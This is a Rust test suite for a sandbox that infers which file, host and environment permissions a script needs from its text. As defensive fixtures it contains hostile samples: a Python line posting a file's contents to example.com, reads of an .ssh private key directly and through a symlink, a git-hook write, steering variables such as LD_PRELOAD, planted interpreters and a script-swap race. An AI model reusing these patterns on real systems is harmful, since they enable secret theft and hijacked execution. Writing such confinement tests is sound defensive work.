//! Which profile a script runs with.

use serde_json::json;

use crate::common::tries;
use crate::exec::place::{Place, bare};

#[test]
fn a_script_runs_with_what_its_text_needs_and_no_more() {
    let place = Place::new();
    place.file("read.py", "print(open('data/a.csv').read(), end='')\n");
    assert_eq!(bare(&place, &["python3", "read.py"]), Some(0));
    let called = place.exec(&["read.py"]);
    assert_eq!((called.code, &*called.stdout), (0, "shop,price\nmarket,3\n"));
    assert_eq!(
        called.stderr,
        "stockade: `read.py` runs under `minimal --read ./data/a.csv`: reads ./data/a.csv (0.95)\n"
    );
    place.file("write.py", "open('out.txt', 'w').write(open('data/a.csv').read())\n");
    assert_eq!(place.exec(&["write.py"]).code, 0);
    assert!(place.root().join("out.txt").exists());
    // SQLite makes a journal beside it.
    let text = "import os, sqlite3\nbase = sqlite3.connect('./shop.db')\nbase.execute('create table t(a)')\nbase.commit()\n\
                print(os.environ.get('COLOUR'), os.environ.get('HARMLESS'))\n";
    place.file("base.py", text);
    let mut command = place.command(&["exec", "--ask", "never", "base.py"]);
    let token = "ghp_0123456789abcdefghij0123456789abcdef";
    let output = command.env("COLOUR", "blue").env("HARMLESS", token).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&output.stdout), "blue None\n", "{output:?}");
    place.file("closed.py", "open('.git/hooks/pre-commit', 'w').write('x')\n");
    std::fs::create_dir_all(place.root().join(".git/hooks")).unwrap();
    assert_eq!(bare(&place, &["python3", "closed.py"]), Some(0));
    assert_eq!(place.exec(&["closed.py"]).code, 1);
    // What its text doesn't say stays closed: the same file, by a name that only running it shows.
    place.file(
        "hidden.py",
        "print(open(''.join(map(chr, (110, 111)))  + 'tes.txt').read())\n",
    );
    assert_eq!(bare(&place, &["python3", "hidden.py"]), Some(0));
    let answer = place.json(&["infer", "--json", "hidden.py"]);
    assert_ne!(answer["profile"], "minimal");
}

/// What a run is told that a text gives it, in its first line.
fn given(place: &Place, name: &str, text: &str, more: &[&str]) -> (i32, String) {
    place.file(name, text);
    let called = place.exec(&[more, &[name]].concat());
    let first = called.stderr.lines().next().unwrap_or_default();
    let given = first
        .split(" runs under `")
        .nth(1)
        .unwrap_or_default()
        .split('`')
        .next();
    (called.code, given.unwrap_or_default().to_string())
}

#[test]
fn no_tree_as_a_whole_and_no_variable_that_steers_is_given_by_a_text() {
    let place = Place::new();
    for text in [
        "open('.', 'w')",
        "open('./', 'w')",
        "open('/tmp', 'w')",
        "import shutil\nshutil.rmtree('.')",
    ] {
        let (_, given) = given(
            &place,
            "whole.py",
            &format!("import os\nif os.getpid() < 0: {text}\n").replace(": import shutil\n", ": "),
            &[],
        );
        assert!(!given.contains("--write"), "{text}: {given}");
    }
    assert_eq!(
        given(&place, "list.py", "import os\nos.listdir('.')\n", &[]),
        (0, "filesystem".into())
    );
    for name in [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "PYTHONPATH",
        "BASH_ENV",
        "",
        "=A",
        "A=B",
        "PATH",
    ] {
        let text = format!("import os\nos.environ.get('{name}')\nprint('ran')\n");
        assert_eq!(
            given(&place, "variable.py", &text, &[]),
            (0, "minimal".into()),
            "{name}"
        );
    }
    // Of what a flag closes nothing is given, and the run starts.
    place.file("in.csv", "x");
    let (code, _) = given(
        &place,
        "closed.py",
        "print(open('in.csv').read())\n",
        &["--deny", "./in.csv"],
    );
    assert_eq!(code, 1);
    let (_, said) = given(&place, "odd.py", "open('out.txt` runs under `minimal` ', 'w')\n", &[]);
    assert!(said.contains("'./out.txt") || !said.contains("--write"), "{said}");
}

#[test]
fn all_that_a_text_gives_is_said() {
    let place = Place::new();
    std::fs::create_dir(place.root().join("src")).unwrap();
    place.file("src/main.rs", "fn main() {}\n");
    let writes = |directory: &str| -> String {
        let numbers = 0..300;
        numbers
            .map(|at| format!("open('{directory}{at}.txt', 'w')\n"))
            .collect()
    };
    let text = writes("out/") + "print(open('src/main.rs', 'a').write(''))\n";
    place.file("many.py", &format!("import os\nos.makedirs('out')\n{text}"));
    let called = place.exec(&["many.py"]);
    let first = called.stderr.lines().next().unwrap();
    assert!(
        first.contains("runs under `minimal --write ./src/main.rs --write ./out`"),
        "{first}"
    );
    std::fs::remove_dir_all(place.root().join("out")).unwrap();
    std::fs::create_dir(place.root().join("out")).unwrap();
    place.file("many.py", &text);
    let called = place.exec(&["many.py"]);
    let first = called.stderr.lines().next().unwrap();
    let expected = "`minimal --write ./src/main.rs --write ./out/0.txt and 299 more under ./out`";
    assert!(first.contains(expected), "{first}");
    assert_eq!((called.code, &*called.stdout), (0, "0\n"), "{}", called.stderr);
    // Beside the root's own files each file is one to be seen.
    place.file("many.py", &writes(""));
    let (code, said) = given(&place, "many.py", &writes(""), &[]);
    assert_eq!((code, said.matches("--write").count()), (1, 8), "{said}");
    assert!(
        !said.contains("more") && !place.root().join("299.txt").exists(),
        "{said}"
    );
    // What is too long to be said isn't given.
    let long = format!("{}/x", "d".repeat(150));
    std::fs::create_dir(place.root().join("d".repeat(150))).unwrap();
    place.file(&long, "x");
    let (_, said) = given(&place, "long.py", &format!("open('{long}', 'w')\n"), &[]);
    assert_eq!(said, "minimal");
}

#[test]
fn making_a_directory_that_is_there_gives_nothing_of_it() {
    let place = Place::new();
    std::fs::create_dir(place.root().join("src")).unwrap();
    place.file("src/main.rs", "x");
    for (name, text) in [
        ("a.py", "import os\nos.makedirs('src', exist_ok=True)\nprint('made')\n"),
        (
            "b.py",
            "import pathlib\npathlib.Path('src').mkdir(exist_ok=True)\nprint('made')\n",
        ),
        ("c.sh", "mkdir -p src\necho made\n"),
    ] {
        assert_eq!(given(&place, name, text, &[]), (0, "minimal".into()), "{name}");
    }
    let text = "import os\nos.makedirs('new/x', exist_ok=True)\nopen('new/x/' + os.path.basename('y'), 'w')\n";
    assert_eq!(given(&place, "new.py", text, &[]).0, 0);
}

#[test]
fn a_proposed_flag_can_be_pasted() {
    let place = Place::new();
    place.file(
        "home.py",
        "import os\nopen(os.path.expanduser('~/res.txt'), 'w').write('x')\nopen(os.path.expanduser('~/note.txt'))\n",
    );
    let home = place.root().parent().unwrap().join("home");
    let flag = format!("`--write {}`", home.join("res.txt").display());
    let told = place.exec(&["home.py"]).stderr;
    assert!(told.contains(&flag) && !told.contains("--write '~/"), "{told}");
}

#[test]
fn everyday_scripts_run_with_what_their_text_names() {
    let place = Place::new();
    let home = place.root().parent().unwrap().join("home");
    std::fs::write(home.join("note.txt"), "note").unwrap();
    std::fs::write(place.root().join("../beside.txt"), "beside").unwrap();
    for (name, text) in [
        (
            "dirs.py",
            "import os\nos.makedirs('out/2024/reports')\nopen('out/2024/reports/a.txt', 'w').write('x')\n",
        ),
        (
            "again.py",
            "import os\nos.makedirs('out/2024/reports', exist_ok=True)\nprint(os.listdir('out'))\n",
        ),
        ("dirs.js", "require('fs').mkdirSync('deep/er', { recursive: true })\n"),
        (
            "home.py",
            "import os\nprint(open(os.path.expanduser('~/note.txt')).read())\n",
        ),
        ("beside.py", "print(open('../beside.txt').read())\n"),
        ("copy.sh", "cp notes.txt copy.txt\nsort copy.txt > sorted.txt\n"),
        (
            "path.py",
            "from pathlib import Path\nPath('p.txt').write_text(Path('notes.txt').read_text())\n",
        ),
        (
            "json.js",
            "const fs = require('fs'); fs.writeFileSync('o.json', JSON.stringify({ a: fs.readFileSync('notes.txt', 'utf8') }))\n",
        ),
    ] {
        place.file(name, text);
        let called = place.exec(&[name]);
        assert_eq!(called.code, 0, "{name}: {}", called.stderr);
        assert!(
            !called.stderr.contains("can't be inferred"),
            "{name}: {}",
            called.stderr
        );
    }
    place.file(
        "base.py",
        "import sqlite3\nsqlite3.connect('app.db').execute('create table t(a)')\n",
    );
    let called = place.exec(&["base.py"]);
    assert!(!called.stderr.contains("the rest:"), "{}", called.stderr);
}

#[test]
fn trusted_is_never_given_by_a_text() {
    let place = Place::new();
    // A file elsewhere is `trusted` to write, and no text gets that.
    let elsewhere = tempfile::tempdir_in("/var/tmp").unwrap();
    let file = elsewhere.path().canonicalize().unwrap().join("out.txt");
    let text = format!("open('{}', 'w').write(open('data/a.csv').read())\n", file.display());
    place.file("write.py", &text);
    let answer = place.json(&["infer", "--json", "write.py"]);
    assert_eq!(
        (&answer["profile"], &answer["runs_as"], &answer["runs_with"]),
        (&json!("trusted"), &json!("minimal"), &json!(["--read", "./data/a.csv"]))
    );
    assert_eq!(
        answer["least_grants"],
        json!({ "profile": "minimal", "flags": ["--write", file, "--read", "./data/a.csv"] })
    );
    let called = place.exec(&["write.py"]);
    assert_eq!(called.code, 1);
    called.says(&format!(
        "`write.py` runs under `minimal --read ./data/a.csv` and is refused the rest: writing {0} (`--write {0}`) (0.95)",
        file.display()
    ));
    assert!(!file.exists());
    // An answer can let it happen.
    let called = place.exec_with(r#"{"answer":"yes","lifetime":"session"}"#, &["write.py"]);
    assert_eq!(called.code, 0);
    assert!(file.exists());
}

/// All reads and all hosts together carry every file away.
#[test]
fn mcp_standard_is_never_given_by_a_text_but_the_files_that_it_names() {
    let elsewhere = tempfile::Builder::new().prefix("exec-").tempdir_in("/var/tmp").unwrap();
    let path = |name: &str| {
        elsewhere
            .path()
            .canonicalize()
            .unwrap()
            .join(name)
            .display()
            .to_string()
    };
    std::fs::create_dir(path(".ssh")).unwrap();
    for name in ["a.csv", ".ssh/id_rsa"] {
        std::fs::write(path(name), "shop\n").unwrap();
    }
    std::os::unix::fs::symlink(path(".ssh/id_rsa"), path("link")).unwrap();
    let place = Place::new();
    let runs_as = |script: &str| {
        let answer = place.json(&["infer", "--json", script]);
        assert_eq!(answer["profile"], json!("mcp-standard"), "{script}");
        answer["runs_as"].as_str().unwrap().to_string()
    };
    let named = path("a.csv");
    place.file("named.py", &format!("print(open('{named}').read(), end='')\n"));
    assert_eq!(runs_as("named.py"), "minimal");
    let called = place.exec(&["named.py"]);
    assert_eq!((called.code, &*called.stdout), (0, "shop\n"));
    called.says(&format!("`named.py` runs under `minimal --read {named}`"));
    let directory = format!("import os\nprint(os.listdir('{}'))\n", elsewhere.path().display());
    let reading = |name: &str| format!("print(open('{}').read())\n", path(name));
    for text in [directory, reading("link"), reading(".ssh/id_rsa")] {
        place.file("closed.py", &text);
        assert_eq!(bare(&place, &["python3", "closed.py"]), Some(0), "{text}");
        assert_eq!(place.exec(&["closed.py"]).code, 1, "{text}");
    }
    let sending = |text: &str| {
        place.file(
            "sending.py",
            &format!("import requests\nrequests.post('https://example.com/', data={text})\n"),
        )
    };
    sending("open('notes.txt').read()");
    assert_eq!(runs_as("sending.py"), "minimal");
    sending(&format!("open('{named}').read()"));
    assert_eq!(runs_as("sending.py"), "network-api");
    place
        .exec(&["sending.py"])
        .says("`sending.py` runs under `network-api` and is refused the rest: host example.com (`--host example.com`), reading");
}

#[test]
fn what_cannot_be_told_runs_under_minimal() {
    let place = Place::new();
    place.file("built.py", "exec(input())\n");
    let called = place.exec(&["built.py"]);
    called.says("`built.py` runs under `minimal`: its needs can't be inferred (runs code that it builds");
    place.file("broken.py", "def (:\n");
    let called = place.exec(&["broken.py"]);
    assert_eq!(called.code, 1);
    called.says("runs under `minimal`: its needs can't be inferred (doesn't parse");
}

#[test]
fn a_script_runs_with_the_interpreter_that_it_is_for() {
    let place = Place::new();
    place.file("a.sh", "echo \"sh $1\"\n");
    place.file("b", "#!/usr/bin/env bash\n[[ a == a ]] && echo \"bash $*\"\n");
    place.file(
        "c.mjs",
        "import { basename } from 'node:path';\nconsole.log(basename('/x/node'));\n",
    );
    assert_eq!(place.exec(&["a.sh", "one"]).stdout, "sh one\n");
    assert_eq!(place.exec(&["b", "one", "--two"]).stdout, "bash one --two\n");
    assert_eq!(place.exec(&["c.mjs"]).stdout, "node\n");
    let called = place.exec(&["nothing.py"]);
    assert_eq!(called.code, 127);
    called.says("can't read `nothing.py`");
    place.file("d.txt", "words\n");
    let called = place.exec(&["d.txt"]);
    assert_eq!(called.code, 127);
    called.says("can't tell the interpreter of");
}

#[test]
fn what_is_inferred_widens_no_agent() {
    let place = Place::new();
    place.configuration("version = 1\n[agents.narrow]\nprofile = \"readonly\"\nmode = \"accept-edits\"\n");
    place.file("notes.py", "print(open('notes.txt').read())\n");
    assert_eq!(place.exec(&["notes.py"]).code, 0);
    let called = place.exec(&["--agent", "narrow", "notes.py"]);
    assert_eq!(called.code, 1);
    called.says("runs under `readonly`, the profile of its agent or tool");
    // Nor does what a person chose for this content in other runs.
    assert_eq!(place.exec(&["--profile", "trusted", "notes.py"]).code, 0);
    assert_eq!(place.exec(&["--agent", "narrow", "notes.py"]).code, 1);
    assert_eq!(place.exec(&["notes.py"]).code, 0);
}

#[test]
fn no_interpreter_is_taken_from_beside_a_script() {
    use std::os::unix::fs::PermissionsExt;
    let place = Place::new();
    std::fs::create_dir_all(place.root().join("node_modules/.bin")).unwrap();
    for name in ["node_modules/.bin/tsx", "python3"] {
        place.file(name, "#!/bin/sh\necho planted\n");
        std::fs::set_permissions(place.root().join(name), PermissionsExt::from_mode(0o755)).unwrap();
    }
    place.file("a.ts", "console.log(1);\n");
    place.file("b", "#!./python3\nprint(1)\n");
    for script in ["a.ts", "b"] {
        let called = place.exec(&[script]);
        assert!(!called.stdout.contains("planted"), "{}", called.stderr);
    }
    assert_eq!(place.exec(&["b"]).code, 127);
    // Nor where the search path or a first line leads into the root; what the caller names is used.
    let planted = place.root().canonicalize().unwrap();
    place.file("c.py", "print('mine')\n");
    place.file("d", "#!/usr/bin/env python3\nprint('mine')\n");
    place.file("e", &format!("#!{}/python3\nprint('mine')\n", planted.display()));
    let path = format!("{}:{}", planted.display(), std::env::var("PATH").unwrap());
    for (script, stdout) in [("c.py", "mine\n"), ("d", "mine\n"), ("e", "")] {
        let words = |more: &[&str]| {
            let mut command = place.command(&[&["exec", "--ask", "never", "--profile", "trusted"], more].concat());
            let output = command.arg(script).env("PATH", &path).output().unwrap();
            String::from_utf8(output.stdout).unwrap()
        };
        assert_eq!(words(&[]), stdout, "{script}");
        assert_eq!(words(&["--exec", "."]), "planted\n", "{script}");
    }
}

/// An earlier run may have made the link, or the first line.
// promise: others.4
#[test]
fn a_link_or_a_first_line_of_a_run_leads_to_no_other_script() {
    let place = Place::new();
    let beside = place.root().with_file_name("beside");
    std::fs::create_dir(&beside).unwrap();
    let notes = beside.join("notes.sh");
    std::fs::write(&notes, "#!/bin/sh\necho NOTES\n").unwrap();
    std::fs::set_permissions(&notes, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    std::os::unix::fs::symlink(&notes, place.root().join("link.sh")).unwrap();
    std::os::unix::fs::symlink(&beside, place.root().join("directory")).unwrap();
    place.file("line", &format!("#!{}\nx\n", notes.display()));
    let run = |script: &str| place.exec(&["--profile", "minimal", script]);
    assert_eq!(run(notes.to_str().unwrap()).stdout, "NOTES\n");
    for link in ["link.sh", "directory/notes.sh"] {
        let called = run(link);
        assert_eq!((called.code, &*called.stdout), (125, ""), "{}", called.stderr);
        let said = format!("`{link}` leads out of `{}`", place.root().display());
        assert!(called.stderr.contains(&said), "{}", called.stderr);
    }
    let called = run("line");
    assert_eq!((called.code, &*called.stdout), (126, ""), "{}", called.stderr);
}

#[test]
fn a_fifo_is_no_script() {
    let place = Place::new();
    let fifo = place.root().join("fifo.py");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRWXU).unwrap();
    for words in [&["infer", "fifo.py"][..], &["exec", "fifo.py"]] {
        let called = place.call(words);
        assert_eq!(called.code, 125);
        called.says("it is no file");
    }
}

/// Somebody who may write beside a script puts another in its place, again and again.
#[test]
fn what_runs_under_a_chosen_profile_is_what_was_chosen() {
    use std::sync::atomic::{AtomicBool, Ordering};
    let place = Place::new();
    // Not in /tmp, where a text may get to write.
    let outside = tempfile::tempdir_in("/var/tmp").unwrap();
    let mark = outside.path().join("mark");
    let planted = format!("echo planted > '{}'\n", mark.display());
    for (file, text) in [
        ("script.sh", "echo chosen\n"),
        ("chosen", "echo chosen\n"),
        ("planted", &planted),
    ] {
        place.file(file, text);
    }
    place.call(&["script", "set", "script.sh", "--profile", "trusted"]);
    let bare = std::process::Command::new("sh")
        .arg(place.root().join("planted"))
        .status();
    assert!(bare.unwrap().success() && mark.exists());
    std::fs::remove_file(&mark).unwrap();
    let over = AtomicBool::new(false);
    let mut chosen = 0;
    std::thread::scope(|scope| {
        scope.spawn(|| {
            let put = |text: &str| {
                std::fs::copy(place.root().join(text), place.root().join("new")).unwrap();
                std::fs::rename(place.root().join("new"), place.root().join("script.sh")).unwrap();
                std::thread::sleep(std::time::Duration::from_millis(5));
            };
            while !over.load(Ordering::Relaxed) {
                put("chosen");
                put("planted");
            }
        });
        for _ in 0..tries(30, 400) {
            let called = place.exec(&["script.sh"]);
            chosen += usize::from(called.stdout == "chosen\n");
        }
        over.store(true, Ordering::Relaxed);
    });
    assert!(!mark.exists(), "what was planted ran under `trusted`");
    assert!(chosen > 0, "the script never ran");
}
